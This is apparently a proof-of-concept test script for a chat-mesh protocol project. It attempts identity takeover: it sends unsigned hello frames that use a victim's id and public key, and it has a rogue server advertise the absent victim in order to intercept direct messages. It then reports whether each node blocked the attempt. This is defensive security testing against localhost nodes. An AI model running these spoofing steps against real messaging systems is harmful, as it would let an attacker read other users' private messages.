"""Attack: take over a user id through another node of the mesh (issue #15 weaknesses 1, 2).

Needs linked nodes: the victim's home (`--peer-url`, node B), the node attacked
(`--url`, node A) and, optionally, more nodes of the same mesh (`--mesh-url`, node C),
which are attacked the same way. The victim says a signed hello at B. Then, at A and C:

1. an unsigned hello with the victim's id and public key (known from /list);
2. the victim leaves B; the same unsigned hello again;
3. the attacker joins A (and C) as a server and advertises the victim as its own user,
   with the victim's real key, while the victim is away; a user of A (and of C) writes
   to the victim.

Blocked when every node refuses both hellos, no joined server receives the victim's
mail, and the victim, back at B, gets a DM from the user of every other node.

    python poc/identity_takeover.py --url ws://127.0.0.1:8765 --peer-url ws://127.0.0.1:8766 \\
        [--mesh-url ws://127.0.0.1:8767]
"""

from __future__ import annotations

import argparse
import asyncio

from _common import Keys, Peer, Verdict, main, now_ms, show, user, wait_listed
from socp.protocol import frames


def options(parser: argparse.ArgumentParser) -> None:
    parser.add_argument("--peer-url", required=True, help="ws://HOST:PORT of a node linked to --url: the victim's home")
    parser.add_argument("--settle", type=float, default=1.5, help="seconds for presence to cross the link")


async def _hello_refusal(url: str, keys: Keys, victim: Peer, timeout: float) -> tuple[str, str]:
    attacker = await Peer(url, keys.take(), peer_id=victim.peer_id, timeout=timeout).open()
    await attacker.hello(signed=False, pubkey=victim.pubkey)
    code, detail = await attacker.error(timeout=timeout)
    await attacker.close()
    return code, detail


async def run(args: argparse.Namespace, verdict: Verdict) -> None:
    keys = Keys(args.keys)
    attacked = [args.url, *args.mesh_url]      # every node but the victim's home
    victim = await user(args.peer_url, keys, args.timeout)
    friends = [await user(url, keys, args.timeout) for url in attacked]
    for url, friend in zip(attacked, friends, strict=True):
        if not await wait_listed(friend, victim.peer_id, args.timeout):
            verdict.note(f"{url} does not list the victim yet (presence slow to cross the mesh)")

    for url in attacked:
        verdict.tried(f"an unsigned hello at {url} for a victim online at node B, with its public key")
        code, detail = await _hello_refusal(url, keys, victim, args.timeout)
        verdict.check(code in ("NAME_IN_USE", "INVALID_SIG"), f"answer {code or 'none'} {show(detail)}")

    await victim.close()
    for friend in friends:
        await wait_listed(friend, victim.peer_id, args.timeout, present=False)
    await asyncio.sleep(args.settle)
    for url in attacked:
        verdict.tried(f"the victim left B; an unsigned hello at {url} for it again")
        code, detail = await _hello_refusal(url, keys, victim, args.timeout)
        verdict.check(code in ("INVALID_SIG", "NAME_IN_USE"), f"answer {code or 'none'} {show(detail)}")

    rogues = []
    for url in attacked:
        verdict.tried(f"a server joins {url} and advertises the absent victim as its own user, with its real key")
        rogue = await Peer(url, keys.take(), timeout=args.timeout).open()
        await rogue.join_as_server()
        await rogue.send(rogue.signed(frames.user_advertise(rogue.peer_id, now_ms(), victim.peer_id,
                                                            {"pubkey": victim.pubkey})))
        rogues.append(rogue)
    await asyncio.sleep(args.settle)
    for friend in friends:
        await friend.send(friend.dm(victim.peer_id, victim.pubkey, b"for the victim only"))
    for url, rogue in zip(attacked, rogues, strict=True):
        stolen = not await rogue.nothing_of("SERVER_DELIVER", wait=args.settle * 2 / len(rogues))
        verdict.check(not stolen, f"the server joined at {url} received the victim's mail" if stolen
                      else f"the server joined at {url} received none of the victim's mail")

    verdict.tried("the victim comes back to B; the user of every other node writes to it")
    back = await Peer(args.peer_url, victim.key, peer_id=victim.peer_id, timeout=args.timeout).open()
    await back.hello()
    await back.list_users()
    for friend in friends:
        await wait_listed(friend, victim.peer_id, args.timeout)
        await friend.send(friend.dm(victim.peer_id, victim.pubkey, b"welcome back"))
    for url, friend in zip(attacked, friends, strict=True):
        try:
            await back.receive("USER_DELIVER", timeout=args.timeout,
                               where=lambda f, sender=friend.peer_id: f.payload.get("sender") == sender
                               and back.open_dm(f) == b"welcome back")
            verdict.check(True, f"the DM from {url} reached the victim at its home")
        except TimeoutError:
            verdict.check(False, f"the victim, back home, never got the DM from {url}")


if __name__ == "__main__":
    raise SystemExit(main(run, "identity takeover through another node of the mesh", options))
